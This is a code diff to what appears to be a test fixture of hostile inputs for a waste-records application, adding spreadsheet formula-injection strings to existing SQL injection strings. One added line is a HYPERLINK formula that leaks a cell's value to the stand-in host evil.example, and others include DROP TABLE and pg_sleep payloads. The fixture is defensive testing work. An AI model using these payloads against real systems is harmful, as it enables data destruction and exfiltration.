@@ -14,6 +14,14 @@ export const SEED = process.env.HOSTILE_SEED ? Number(process.env.HOSTILE_SEED) 
 export const PAYLOADS: readonly string[] = [
   `'); DROP TABLE waste_records; --`,
   `' OR '1'='1`,
+  // spreadsheet formulas (CSV injection): the export must guard them, the import must give them back
+  `=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`,
+  `+SUM(1,2)`,
+  `@SUM(A1:A9)`,
+  `\t=1+1`,
+  `\r=1+1`,
+  `'=1+1`,
+  `''-1`,
   `" OR 1=1 --`,
   `1; SELECT pg_sleep(10)`,
   `$1`,
